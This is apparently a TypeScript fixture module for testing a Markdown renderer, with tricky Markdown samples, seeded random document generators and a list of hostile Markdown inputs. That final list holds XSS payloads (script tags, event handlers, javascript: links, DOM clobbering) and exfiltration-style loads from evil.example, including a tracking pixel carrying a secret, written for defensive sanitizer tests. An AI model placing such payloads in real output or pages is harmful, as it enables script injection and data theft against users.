// Markdown documents for the renderer's tests and benchmark: hand-picked block-boundary traps, a seeded random
// generator of varied documents, a realistic long answer, and random chunking (also inside surrogate pairs).

/** Deterministic PRNG (mulberry32): the same seed always gives the same corpus and the same chunks. */
export function createRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Random = () => number;

function pick<T>(random: Random, items: readonly T[]): T {
  return items[Math.floor(random() * items.length)];
}

function between(random: Random, min: number, max: number): number {
  return min + Math.floor(random() * (max - min + 1));
}

/** Documents whose block boundaries are easy to get wrong when rendering incrementally. */
export const TRICKY_DOCUMENTS: readonly string[] = [
  'Title\n===\n\nSub title\n---\n\nA paragraph\nthat becomes a heading\n===\n',
  'Para one\n\nPara two\n---\nnot hr\n\n***\n',
  '- a\n- b\n\n- c after blank\n\n  continued in c\n\nnot in list\n',
  '1. one\n2. two\n\n3. three\n\n10. ten\n11) other list\n',
  '- outer\n  - inner\n    - deeper\n\n      deeper para\n  - inner 2\n- outer 2\n',
  '- item\n\n  ```ts\n  const inList = true;\n\n  more();\n  ```\n\n- next\n',
  '````md\n```\nnested fence\n```\n````\n\n~~~\ntilde ``` inside\n~~~\n',
  '```python\ndef unclosed():\n    return 1\n\nstill code\n',
  '    indented code\n\n    after blank\n\nparagraph\n\n    again\n',
  '> quote\nlazy continuation\n> > nested\n\n> second\n\n- list\n> quote after list\n',
  '| a | b |\n|---|:-:|\n| 1 | 2 |\n| 3 | 4 |\nlazy row\n\n| x |\n|---|\n',
  'intro line\n| h1 | h2 |\n| -- | -- |\n| c1 | c2 |\n',
  '<div>\n*not emphasis*\n</div>\n\n<div>\n\n*emphasis*\n\n</div>\n\n<!-- comment\n\nstill comment -->\n\nafter\n',
  '<details>\n<summary>More</summary>\n\nHidden **text**\n\n</details>\n',
  'See [the docs][docs] and [Other Ref] and [missing][nope].\n\n> quote with [docs]\n\n[docs]: https://example.com/docs "Docs"\n[other ref]: <https://example.com/other>\n',
  '[early]: https://early.example\n\nUse [early] and [late].\n\n- in list [late]\n\n[late]: https://late.example\n[early]: https://ignored.example\n',
  '*emphasis across\nlines* and **strong\ntext** and `code\nspan` and ~~strike~~\n',
  'Line with trailing spaces  \nhard break\\\nbackslash break\n',
  'Emoji 😀 and 👨‍👩‍👧 and 𝒳 math and 中文 and combining é\n\n```\n🎉 in code\n```\n',
  'Windows\r\nline endings\r\n\r\n- a\r\n- b\r\n\r\n```js\r\nlet x;\r\n```\r\n',
  'Old Mac\rline endings\r\rpara\r',
  '# ATX # closed #\n#not heading\n####### too deep\n',
  'Autolinks https://example.com and <https://x.y> and www.example.org and mail@example.com\n',
  '- [ ] task\n- [x] done\n\n1. [x] ordered task\n',
  'Text\n\n---\n\n___\n\n* * *\n',
  '```\n```\n\n```\n\n```\n',
  '\n\n\nleading blank lines\n\n\n\ntrailing\n\n\n',
  'Mixed <span>inline <b>html</b></span> and <unknown-tag>x</unknown-tag> and a < b > c\n',
  'Dangling <b>bold\n\nnext paragraph\n\n<em>unclosed\n',
  'Footnote-ish[^1] and escaped \\*stars\\* and \\[not a link\\](x)\n\n[^1]: note\n',
  '> ```\n> quoted code\n> ```\n> after\n',
  '1. list\n\n       indented code in list\n\n2. next\n',
  '   ```\n   indented fence\n  less indented\n   ```\n',
  'a\n\n\n\n\n\nb\n',
  'Setext after list\n- item\nHeading?\n---\n',
  '[link](https://example.com "title") [empty]() [rel](./relative) [js](javascript:alert(1))\n',
  '![alt text](https://example.com/x.png "t") and ![data](data:image/png;base64,AAAA)\n',
  '```ts title="x.ts"\nconst withMeta = 1;\n```\n\n```c++\nint main() {}\n```\n\n```unknownlang\nplain\n```\n',
];

const WORDS = [
  'alpha',
  'beta',
  'gamma',
  'delta',
  'stream',
  'render',
  'token',
  'model',
  'answer',
  'code',
  'block',
  'frame',
  'list',
  'table',
  'quote',
  'café',
  'naïve',
  '日本語',
  '😀',
  '𝕏',
  'x<y',
  'a&b',
  'under_score',
  'snake_case_name',
];

function words(random: Random, min: number, max: number): string {
  return Array.from({ length: between(random, min, max) }, () => pick(random, WORDS)).join(' ');
}

function inline(random: Random): string {
  const w = () => words(random, 1, 3);
  return pick(random, [
    () => words(random, 3, 12),
    () => `${w()} *${w()}* ${w()}`,
    () => `${w()} **${w()}** and __${w()}__`,
    () => `${w()} \`${w()}\` ${w()}`,
    () => `${w()} [${w()}](https://example.com/${between(random, 1, 9)}) ${w()}`,
    () => `${w()} [${w()}][ref${between(random, 1, 4)}] ${w()}`,
    () => `${w()} [ref${between(random, 1, 4)}] ${w()}`,
    () => `${w()} ~~${w()}~~ <kbd>Ctrl</kbd> ${w()}`,
    () => `${w()} *${w()}\n${w()}* ${w()}`,
    () => `${w()} ![${w()}](https://img.example/${between(random, 1, 9)}.png)`,
    () => `${w()} <span>${w()}</span> https://auto.example/${between(random, 1, 9)}`,
  ])();
}

function paragraph(random: Random): string {
  return Array.from({ length: between(random, 1, 3) }, () => inline(random)).join('\n');
}

function code(random: Random, indent = ''): string {
  const fence = pick(random, ['```', '~~~', '````']);
  const language = pick(random, ['ts', 'python', 'js', '', 'json', 'bash', 'rust', 'nosuchlang']);
  const lines = Array.from({ length: between(random, 1, 6) }, () =>
    pick(random, ['const x = 1;', 'if (a < b) { return "s"; }', '', '  indented()', '# comment', 'print("😀")', '```not a close', `${words(random, 1, 4)}`]),
  );
  return [`${fence}${language}`, ...lines, fence].map((line) => (line ? indent + line : line)).join('\n');
}

function list(random: Random, depth = 0): string {
  const ordered = random() < 0.4;
  const marker = ordered ? null : pick(random, ['-', '*', '+']);
  const start = between(random, 1, 3);
  const loose = random() < 0.3;
  const items: string[] = [];
  const pad = '  '.repeat(depth) + (ordered ? '   ' : '  ');
  for (let i = 0; i < between(random, 1, 4); i++) {
    const bullet = marker ?? `${start + i}.`;
    let item = `${'  '.repeat(depth)}${bullet} ${random() < 0.15 ? pick(random, ['[ ] ', '[x] ']) : ''}${inline(random)}`;
    const extra = random();
    if (extra < 0.15 && depth < 2) {
      item += `\n${list(random, depth + 1)}`;
    } else if (extra < 0.25) {
      item += `\n\n${code(random, pad)}`;
    } else if (extra < 0.35) {
      item += `\n\n${pad}${inline(random)}`;
    }
    items.push(item);
  }
  return items.join(loose ? '\n\n' : '\n');
}

function table(random: Random): string {
  const columns = between(random, 1, 4);
  const row = () => `| ${Array.from({ length: columns }, () => inline(random).replace(/\n/g, ' ').replace(/\|/g, '/')).join(' | ')} |`;
  const align = `|${Array.from({ length: columns }, () => pick(random, ['---', ':--', '--:', ':-:'])).join('|')}|`;
  return [row(), align, ...Array.from({ length: between(random, 0, 4) }, row)].join('\n');
}

function blockquote(random: Random): string {
  const inner = pick(random, [paragraph, list, code])(random);
  return inner
    .split('\n')
    .map((line) => (line ? `> ${line}` : '>'))
    .join('\n');
}

const BLOCKS: ReadonlyArray<(random: Random) => string> = [
  paragraph,
  paragraph,
  (random) => `${'#'.repeat(between(random, 1, 6))} ${inline(random).replace(/\n/g, ' ')}`,
  (random) => `${words(random, 1, 4)}\n${pick(random, ['===', '---', '=', '--'])}`,
  list,
  list,
  code,
  table,
  blockquote,
  (random) => `    ${words(random, 1, 3)}\n    ${words(random, 1, 3)}`,
  (random) =>
    pick(random, [
      '<div class="x">\n<b>raw</b> html\n</div>',
      '<!-- a comment -->',
      '<details><summary>s</summary>\n\nbody\n\n</details>',
      '<p>para <i>html</i></p>',
    ]),
  () => '---',
  (random) => `[ref${between(random, 1, 4)}]: https://ref.example/${between(random, 1, 99)}${random() < 0.3 ? ' "Title"' : ''}`,
];

/** A random document mixing every kind of block; seeds give variety, the same seed the same text. */
export function generateDocument(seed: number): string {
  const random = createRandom(seed);
  const blocks = Array.from({ length: between(random, 3, 14) }, () => pick(random, BLOCKS)(random));
  let text = blocks.map((block, i) => (i === 0 ? block : (random() < 0.8 ? '\n\n' : '\n') + block)).join('');
  text += pick(random, ['\n', '', '\n\n', '\n```\nunclosed code at the end', '\n- dangling item']);
  return random() < 0.15 ? text.replace(/\n/g, '\r\n') : text;
}

/** Splits text into chunks of random size; some chunk boundaries fall inside surrogate pairs and CRLFs. */
export function randomChunks(text: string, seed: number, maxChunk = 12): string[] {
  const random = createRandom(seed);
  const chunks: string[] = [];
  let offset = 0;
  while (offset < text.length) {
    const size = random() < 0.1 ? between(random, maxChunk, maxChunk * 8) : between(random, 1, maxChunk);
    chunks.push(text.slice(offset, offset + size));
    offset += size;
  }
  return chunks;
}

const CODE_SAMPLES = [
  [
    'ts',
    'export async function fetchModels(client: Client, signal?: AbortSignal): Promise<Model[]> {\n  const response = await client.get("/v1/models", { signal });\n  if (!response.ok) {\n    throw new HttpError(response.status, await response.text());\n  }\n  return (await response.json()).data.map((m: RawModel) => ({ id: m.id, owner: m.owned_by }));\n}',
  ],
  [
    'python',
    'def chunks(items, size):\n    """Yield successive chunks of the given size."""\n    for start in range(0, len(items), size):\n        yield items[start:start + size]\n\nfor batch in chunks(list(range(100)), 7):\n    print(sum(batch), batch[-1] if batch else None)',
  ],
  ['bash', '#!/usr/bin/env bash\nset -euo pipefail\nfor f in src/**/*.ts; do\n  echo "checking $f"\n  npx eslint "$f" || exit 1\ndone'],
  [
    'json',
    '{\n  "name": "example",\n  "version": "1.2.3",\n  "scripts": { "build": "node esbuild.js", "test": "node --test" },\n  "enabled": true,\n  "retries": 3\n}',
  ],
  [
    'rust',
    'fn main() {\n    let words: Vec<&str> = "a b c".split(\' \').collect();\n    for (i, w) in words.iter().enumerate() {\n        println!("{i}: {w}");\n    }\n}',
  ],
  ['css', '.code-block {\n  border: 1px solid var(--vscode-contrastBorder, transparent);\n  border-radius: 4px;\n}\n.code-block pre { overflow-x: auto; }'],
];

/**
 * A long, realistic answer: sections of prose, lists, tables and code (at least one code block per ~5 KB,
 * so 200 KB holds 30+ of them). Used by the benchmark and the scale tests.
 */
export function generateLongAnswer(targetLength: number, seed = 7): string {
  const random = createRandom(seed);
  const parts: string[] = [];
  let length = 0;
  for (let section = 1; length < targetLength; section++) {
    const [language, body] = pick(random, CODE_SAMPLES);
    const lines = body.split('\n');
    const repeated = Array.from({ length: between(random, 2, 5) }, () => lines)
      .flat()
      .join('\n');
    const sectionText = [
      `## ${section}. ${words(random, 2, 5)}`,
      Array.from({ length: between(random, 2, 4) }, () =>
        Array.from({ length: between(random, 3, 6) }, () => inline(random).replace(/\n/g, ' ')).join(' '),
      ).join('\n\n'),
      Array.from({ length: between(random, 3, 7) }, (_, i) => `${i + 1}. **${words(random, 1, 3)}**: ${inline(random).replace(/\n/g, ' ')}`).join('\n'),
      `\`\`\`${language}\n${repeated}\n\`\`\``,
      table(random),
      Array.from({ length: between(random, 2, 5) }, () => `- ${inline(random).replace(/\n/g, ' ')}`).join('\n'),
      `> **Note:** ${words(random, 8, 20)}`,
    ].join('\n\n');
    parts.push(sectionText);
    length += sectionText.length + 2;
  }
  return `${parts.join('\n\n')}\n`;
}

/** What a hostile payload runs if it gets through: the security tests check that it never did. */
export const PWN = 'window.__pwned=1';

/** Model output as an attacker would write it: each entry would run PWN or fetch evil.example if it got through. */
export const HOSTILE_MARKDOWN: readonly string[] = [
  `<script>${PWN}</script>`,
  `Inline <script>${PWN}</script> in a paragraph and **bold <script>${PWN}</script>**`,
  `<img src=x onerror="${PWN}">`,
  `Text <img src="https://evil.example/a.png" onerror=${PWN}> more`,
  `<svg onload="${PWN}"><script>${PWN}</script><image href="https://evil.example/s.png"/></svg>`,
  `<svg><a xlink:href="javascript:${PWN}"><text>x</text></a><use href="data:image/svg+xml,<svg/>"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${PWN}>`,
  `<math><mi xlink:href="javascript:${PWN}">x</mi></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${PWN}>">`,
  `<iframe src="javascript:parent.__pwned=1"></iframe><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<object data="javascript:${PWN}"></object><embed src="https://evil.example/e.swf"><object type="text/x-scriptlet" data="https://evil.example/x"></object>`,
  `<form action="javascript:${PWN}"><input type=submit formaction="javascript:${PWN}"><button formaction="javascript:${PWN}">go</button><input type="image" src="https://evil.example/i.png"></form>`,
  `<style>body{background:url(https://evil.example/css.png)}</style><link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${PWN}"><base href="https://evil.example/">`,
  `<div style="background:url(https://evil.example/bg.png)">styled</div><p style="width:expression(${PWN})">old IE</p>`,
  `<table background="https://evil.example/t.png"><tr><td background="https://evil.example/td.png">cell</td></tr></table>`,
  `<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3" autoplay></audio>`,
  `<picture><source srcset="https://evil.example/s.png"><img srcset="https://evil.example/x.png 1x"></picture>`,
  `<details open ontoggle="${PWN}"><summary onclick="${PWN}">s</summary>body</details>`,
  `<a href="javascript:${PWN}">js</a> <a href=" JaVaScRiPt:${PWN}">spaced</a> <a href="&#x6A;avascript:${PWN}">entity</a>`,
  `<a href="jav&#x09;ascript:${PWN}">tab</a> <a href="vbscript:msgbox(1)">vb</a> <a href="data:text/html,<script>${PWN}</script>">data</a>`,
  `[md js](javascript:${PWN}) [md JS](JAVASCRIPT:${PWN}) [md entity](&#106;avascript:${PWN}) [md vb](vbscript:x) [md data](data:text/html;base64,PHNjcmlwdD4=)`,
  `<javascript:${PWN}> and [ref][evil]\n\n[evil]: javascript:${PWN}`,
  `[title break](https://ok.example "a\\" onmouseover=\\"${PWN}") <a href="https://ok.example" target="_blank" rel="opener" ping="https://evil.example/ping">target</a>`,
  `[relative](./file.md) [protocol-relative](//evil.example/x) [anchor](#section) [mail](mailto:someone@example.com) [web](https://example.com/ok)`,
  `![tracking pixel](https://evil.example/track.png?secret=KEY) ![data image](data:image/png;base64,iVBORw0KGgo=) ![js image](javascript:${PWN})`,
  `[![linked image](https://evil.example/badge.svg)](https://example.com)`,
  `<!--><img src=x onerror=${PWN}>--> <![CDATA[<img src=x onerror=${PWN}>]]>`,
  `<xmp><script>${PWN}</script></xmp><textarea><img src=x onerror=${PWN}></textarea><select><option>o</option></select>`,
  `<template><script>${PWN}</script><img src=x onerror=${PWN}></template>`,
  `<marquee onstart="${PWN}">m</marquee><body onload="${PWN}"><isindex action="javascript:${PWN}"><frameset onload="${PWN}">`,
  `<button class="code-action" data-code-action="newFile">Fake action</button> <span class="code-action" data-code-action="insert" aria-label="Copy">fake</span>`,
  `<div class="code-block" data-language="ts"><div class="code-toolbar"><span class="code-language">ts</span></div><pre><code>spoof</code></pre></div>`,
  `<form name="getElementById"></form><div id="app">clobber</div><a name="body">n</a>`,
  '```" onmouseover="window.__pwned=1\ncode with a hostile info string\n```',
  '```ts onmouseover=window.__pwned=1\n</code></pre><img src=x onerror=window.__pwned=1>\n```',
  `<span class="hljs-keyword" style="color:red" onmouseover="${PWN}">kw</span>`,
  `<a href="https://example.com"><img src="https://evil.example/in-link.png"></a>`,
  `<div>unclosed <b>bold <a href="https://example.com">link`,
];
